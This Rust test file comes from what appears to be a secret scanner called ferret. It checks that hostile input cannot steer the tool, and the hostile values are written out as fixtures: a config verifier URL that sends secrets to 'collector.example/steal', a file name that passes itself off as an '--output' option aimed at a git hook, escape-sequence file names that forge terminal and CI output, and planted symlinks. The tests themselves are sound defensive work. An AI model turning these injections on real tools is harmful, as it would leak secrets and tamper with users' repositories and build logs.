//! Hostile input must not steer ferret (issue 15, items 1, 2, 3, 7 and 10): a scanned tree's
//! config cannot send secrets anywhere, a pull request cannot loosen its own gate, file names are
//! never options, URLs never show their credentials, input cannot forge terminal or workflow
//! output, and reports are written owner-only without following a planted symlink.

use std::net::TcpListener;
use std::path::Path;
use std::process::Output;

use crate::support::mock_http::{MockServer, Reply};
use crate::support::test_repo::TestRepo;
use crate::support::{TestDir, ferret, json_findings, test_rules_file};

const TOKEN: &str = "tst_Qm3kV8zR1tW6yB0nC4xL7pJ2";

/// stdout and stderr of a run, as text.
fn all_output(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// A port on 127.0.0.1 that nothing listens on (bound, then released).
fn closed_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.local_addr().unwrap().port()
}

/// A config whose rule finds the test token and would send it to `collector.example`.
const CONFIG_WITH_VERIFIER: &str = r#"
[[rule]]
id = "team-token"
name = "team token"
keywords = ["tst_"]
pattern = '''\b(?P<secret>tst_[A-Za-z0-9]{24})\b'''
verify = { provider = "collector", url = "https://collector.example/steal?t={secret}", live_status = [200], dead_status = [401] }
"#;

#[test]
fn a_scanned_trees_config_cannot_define_where_secrets_are_sent() {
    let collector = MockServer::start(|_| Reply::new(401, "no"));
    let user_home = TestDir::new();
    let tree = TestDir::new()
        .file("ferret.toml", CONFIG_WITH_VERIFIER)
        .file("app.env", format!("KEY={TOKEN}\n"));
    let scan = |extra: &[&str], xdg: &Path| {
        ferret()
            .args(["scan", "dir"])
            .arg(tree.path())
            .args(["--format", "json", "--verify", "--verify-endpoint"])
            .arg(format!("collector={}", collector.url()))
            .args(extra)
            .env("XDG_CONFIG_HOME", xdg)
            .output()
            .unwrap()
    };

    let out = scan(&[], user_home.path());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        collector.requests().is_empty(),
        "a discovered config sent a secret: {stderr}"
    );
    assert!(
        stderr.contains("warning")
            && stderr.contains("ferret.toml")
            && stderr.contains("team-token"),
        "the ignored verifier is reported, naming the file: {stderr}"
    );
    assert!(stderr.contains("reporting only"), "{stderr}");
    let findings = json_findings(&out);
    assert_eq!(findings.len(), 1, "its rule still reports: {stderr}");
    assert_eq!(findings[0]["rule_id"], "team-token");

    // The same file named with --config is the user's choice, and so is their own config.
    // The verify cache is written like a report: owner-only, a planted symlink replaced. This one
    // dangles, as a symlink planted to create a file elsewhere would.
    let config = tree.join("ferret.toml").display().to_string();
    let victim = user_home.join("created-through-the-link");
    let cache = user_home.join("cache.json");
    #[cfg(unix)]
    std::os::unix::fs::symlink(&victim, &cache).unwrap();
    let cache_arg = cache.display().to_string();
    let out = scan(
        &["--config", &config, "--verify-cache", &cache_arg],
        user_home.path(),
    );
    assert_eq!(collector.requests().len(), 1, "{}", all_output(&out));
    assert!(
        !victim.exists(),
        "the cache was written through the symlink"
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let meta = std::fs::symlink_metadata(&cache).unwrap();
        assert!(meta.is_file(), "the cache replaced the symlink");
        assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    }
    user_home.write("ferret/config.toml", CONFIG_WITH_VERIFIER);
    std::fs::remove_file(tree.join("ferret.toml")).unwrap();
    let out = scan(&[], user_home.path());
    assert_eq!(collector.requests().len(), 2, "{}", all_output(&out));
}

/// The fingerprint ferret gives TOKEN under the test rule id.
fn token_fingerprint() -> String {
    let dir = TestDir::new().file("t.txt", format!("{TOKEN}\n"));
    let out = ferret()
        .args(["scan", "dir"])
        .arg(dir.path())
        .args(["--format", "json", "--rules", &test_rules_file()])
        .output()
        .unwrap();
    json_findings(&out)[0]["fingerprint"]
        .as_str()
        .unwrap()
        .to_string()
}

const TEST_RULE: &str = "[[rule]]\nid = \"test-token\"\nname = \"ferret test token\"\n\
    keywords = [\"tst_\"]\npattern = '''\\b(?P<secret>tst_[A-Za-z0-9]{24})\\b'''\n";

#[test]
fn a_pull_request_cannot_loosen_its_own_gate() {
    let repo = TestRepo::new();
    repo.write("ferret.toml", TEST_RULE);
    let base = repo.commit("the gate");
    repo.checkout("feature", true);
    // The pull request allowlists everything and ignores its own secret, in both files.
    repo.write(
        "ferret.toml",
        format!("{TEST_RULE}\n[[allow]]\npaths = [\"**\"]\nstopwords = [\"tst_\"]\n"),
    );
    repo.write(".ferretignore", format!("{}\n", token_fingerprint()));
    repo.write("leak.txt", format!("{TOKEN}\n"));
    repo.commit("add a secret and let it through");

    let range = format!("{base}..HEAD");
    let run = |format: &str| {
        ferret()
            .current_dir(repo.path())
            .args(["scan", "git", "--range", &range, "--format", format])
            .env("XDG_CONFIG_HOME", repo.join(".no-user-config"))
            .output()
            .unwrap()
    };
    let out = run("json");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    let findings = json_findings(&out);
    assert_eq!(findings.len(), 1, "{stderr}");
    assert_eq!(findings[0]["path"], "leak.txt");
    assert!(
        stderr.contains(&format!("ferret.toml at {base}")),
        "the summary says which config was used: {stderr}"
    );

    let out = run("sarif");
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let used = sarif["runs"][0]["invocations"][0]["properties"]["configuration"].to_string();
    assert!(used.contains(&format!("ferret.toml at {base}")), "{used}");
}

/// The `entry:` of hook `id` in this repository's `.pre-commit-hooks.yaml`, split into words.
fn hook_entry(id: &str) -> Vec<String> {
    let hooks = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join(".pre-commit-hooks.yaml"),
    )
    .unwrap();
    let section = hooks
        .split("- id: ")
        .find(|s| s.starts_with(id) && s[id.len()..].starts_with('\n'))
        .unwrap_or_else(|| panic!("hook {id} is defined"));
    let entry = section
        .lines()
        .find_map(|l| l.trim().strip_prefix("entry: "))
        .expect("the hook has an entry");
    entry.split_whitespace().map(String::from).collect()
}

#[test]
fn staged_file_names_are_paths_not_options_and_the_repository_config_applies() {
    let repo = TestRepo::new();
    // The rule comes only from the repository's ferret.toml: it must be found with file names.
    repo.write("ferret.toml", TEST_RULE);
    let evil = "--output=.git/hooks/pre-commit";
    repo.write(evil, format!("KEY = \"{TOKEN}\"\n"));
    repo.write("src/app.py", format!("KEY = \"{TOKEN}\"\n"));
    repo.git(&["add", "--", "ferret.toml", evil, "src/app.py"]);

    // What the pre-commit framework runs: the hook's entry, then the staged file names.
    let entry = hook_entry("ferret-dir");
    assert_eq!(entry[..3], ["ferret", "scan", "dir"]);
    let out = ferret()
        .current_dir(repo.path())
        .args(&entry[1..])
        .args([evil, "src/app.py"])
        .env("XDG_CONFIG_HOME", repo.join(".no-user-config"))
        .output()
        .unwrap();
    let text = all_output(&out);
    assert!(
        !repo.join(".git/hooks/pre-commit").exists(),
        "a file name was taken as --output: {text}"
    );
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains(evil) && text.contains("src/app.py"), "{text}");
    assert!(text.contains("test-token"), "{text}");

    // Its path allowlists apply to the file names as given from the work tree top.
    repo.write(
        "ferret.toml",
        format!("{TEST_RULE}\n[[allow]]\npaths = [\"src/**\"]\n"),
    );
    let out = ferret()
        .current_dir(repo.path())
        .args(["scan", "dir", "--format", "json", "--", "src/app.py", evil])
        .env("XDG_CONFIG_HOME", repo.join(".no-user-config"))
        .output()
        .unwrap();
    let paths: Vec<_> = json_findings(&out)
        .iter()
        .map(|f| f["path"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(paths, [evil], "{}", all_output(&out));
    repo.write("ferret.toml", TEST_RULE);

    // From a subdirectory too, the work tree's config applies.
    let out = ferret()
        .current_dir(repo.join("src"))
        .args(["scan", "dir", "--", "app.py"])
        .env("XDG_CONFIG_HOME", repo.join(".no-user-config"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", all_output(&out));
}

#[test]
fn a_clone_url_with_a_token_is_never_printed() {
    let secret = "ghp_URLtokenMustNotLeak0123456789abcd";
    let url = format!("https://user:{secret}@127.0.0.1:{}/x.git", closed_port());
    for format in ["text", "json", "sarif"] {
        let out = ferret()
            .args(["scan", "git", &url, "--format", format])
            .output()
            .unwrap();
        let text = all_output(&out);
        assert_eq!(out.status.code(), Some(2), "{text}");
        assert!(!text.contains(secret), "{format}: {text}");
        assert!(text.contains("https://***@127.0.0.1"), "{format}: {text}");
    }
}

#[test]
fn a_name_holding_a_url_is_redacted_in_every_report_format() {
    let name = "https://deploy:glpat-NAMEsecret123@git.example/app/.env?token=QUERYsecret456";
    for format in ["text", "json", "jsonl", "sarif", "csv", "github"] {
        let out = ferret()
            .args(["scan", "stdin", "--path-name", name, "--format", format])
            .args(["--rules", &test_rules_file()])
            .write_stdin(format!("KEY={TOKEN}\n"))
            .output()
            .unwrap();
        let text = all_output(&out);
        assert_eq!(out.status.code(), Some(1), "{format}: {text}");
        assert!(
            !text.contains("NAMEsecret123") && !text.contains("QUERYsecret456"),
            "{format}: {text}"
        );
        if format == "sarif" {
            let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            let uri = &sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
                ["uri"];
            assert!(
                uri.as_str().unwrap().contains("git.example/app/.env"),
                "{uri}"
            );
        }
    }
}

#[test]
fn signed_log_redirects_and_image_urls_are_never_printed() {
    // GitHub answers a run-logs request with a redirect to storage signed in the query; here the
    // storage host does not answer, so the download fails and the error is reported.
    let signed = format!(
        "http://127.0.0.1:{}/logs.zip?sv=2025&sig=SIGNEDlinkSECRET42",
        closed_port()
    );
    let api = MockServer::start(move |r| {
        if r.path().ends_with("/logs") {
            Reply::new(302, "").header("location", signed.clone())
        } else {
            Reply::json(
                serde_json::json!({"id": 7, "html_url": "https://github.com/o/r/actions/runs/7"}),
            )
        }
    });
    for format in ["text", "sarif"] {
        let out = ferret()
            .env("GH_TOKEN", "test-token")
            .args([
                "scan",
                "github-actions",
                "o/r",
                "--run",
                "7",
                "--api-url",
                api.url(),
            ])
            .args(["--format", format])
            .output()
            .unwrap();
        let text = all_output(&out);
        assert_eq!(out.status.code(), Some(2), "{text}");
        assert!(
            api.requests().iter().any(|r| r.path().ends_with("/logs")),
            "{text}"
        );
        assert!(!text.contains("SIGNEDlinkSECRET42"), "{format}: {text}");
    }

    // An image reference written as a URL with credentials is refused without repeating them.
    let out = ferret()
        .args([
            "scan",
            "image",
            "https://ci:regSECRETpass@127.0.0.1:1/app:1",
        ])
        .output()
        .unwrap();
    let text = all_output(&out);
    assert_eq!(out.status.code(), Some(2), "{text}");
    assert!(!text.contains("regSECRETpass"), "{text}");
}

#[test]
fn file_names_cannot_forge_terminal_or_workflow_output() {
    let evil = "evil\x1b[31m\n::error::forged.txt";
    let dir = TestDir::new().file(evil, format!("{TOKEN}\n"));
    let scan = |format: &str| {
        ferret()
            .args(["scan", "dir"])
            .arg(dir.path())
            .args(["--rules", &test_rules_file(), "--format", format])
            .output()
            .unwrap()
    };
    let out = scan("text");
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    assert_eq!(out.status.code(), Some(1), "{stdout}");
    assert!(!stdout.contains('\x1b'), "{stdout:?}");
    assert!(
        stdout.contains("evil\\x1b[31m\\n::error::forged.txt"),
        "{stdout}"
    );
    assert!(!stdout.lines().any(|l| l.starts_with("::")), "{stdout}");

    let out = scan("github");
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(!stdout.contains('\x1b'), "{stdout:?}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 2, "one annotation and the summary: {stdout}");
    assert!(lines[0].starts_with("::error file="), "{stdout}");
    assert!(
        lines[0].contains("%0A%3A%3Aerror%3A%3Aforged.txt"),
        "{stdout}"
    );
    assert!(
        !lines.iter().any(|l| l.starts_with("::error::")),
        "{stdout}"
    );

    // An error about a path from the input is escaped on stderr as well.
    let out = ferret()
        .args([
            "scan",
            "dir",
            "--",
            "missing\x1b]0;title\x07\nferret: all clean",
        ])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        !stderr.contains('\x1b') && !stderr.contains('\x07'),
        "{stderr:?}"
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
}

#[cfg(unix)]
#[test]
fn reports_and_baselines_are_owner_only_and_never_follow_a_planted_symlink() {
    use std::os::unix::fs::PermissionsExt;
    let dir = TestDir::new().file("app.env", format!("KEY={TOKEN}\n"));
    let out_dir = TestDir::new().file("victim", "precious\n");
    let victim = out_dir.join("victim");
    for (args, name) in [
        (
            vec!["scan", "dir", "--show-secrets", "--format", "json"],
            "report.json",
        ),
        (vec!["baseline", "create", "--dir"], "baseline.json"),
    ] {
        let dest = out_dir.join(name);
        std::os::unix::fs::symlink(&victim, &dest).unwrap();
        let out = ferret()
            .args(&args)
            .arg(dir.path())
            .args(["--rules", &test_rules_file(), "--output"])
            .arg(&dest)
            .output()
            .unwrap();
        assert!(
            out.status.code().is_some_and(|c| c < 2),
            "{}",
            all_output(&out)
        );
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
        let meta = std::fs::symlink_metadata(&dest).unwrap();
        assert!(meta.is_file(), "{name} replaced the symlink with a file");
        assert_eq!(meta.permissions().mode() & 0o777, 0o600, "{name}");
        assert!(
            std::fs::read_to_string(&dest)
                .unwrap()
                .contains("fingerprint")
        );
    }
    // Nothing but the reports and the victim is left in the directory (no temporary files).
    let names: Vec<_> = std::fs::read_dir(out_dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names.len(), 3, "{names:?}");
}
